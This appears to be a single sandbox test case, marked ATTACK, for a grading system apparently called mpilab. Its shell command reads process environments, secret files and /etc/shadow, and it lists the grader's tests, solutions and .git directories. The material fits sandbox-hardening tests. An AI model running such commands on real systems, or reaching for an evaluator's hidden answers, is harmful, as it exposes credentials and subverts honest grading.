/* prints what the environment and the machine keep secret: the grader's, and that of other processes */
ATTACK
{
    shell("(env; cat /proc/*/environ | tr '\\0' '\\n'; cat /root/secret ~/secret /home/*/secret; "
          "ls -d @ROOT@/tests "
          "@ROOT@/.git @ROOT@/solutions; cat /proc/1/root/etc/shadow /etc/shadow) | grep -E "
          "'mpilab_secret|/solutions|/tests|/.git|root:.*:.*:' | sed 's/^/mpilab_attack: /' "
          ">/tmp/found; cat /tmp/found");
}
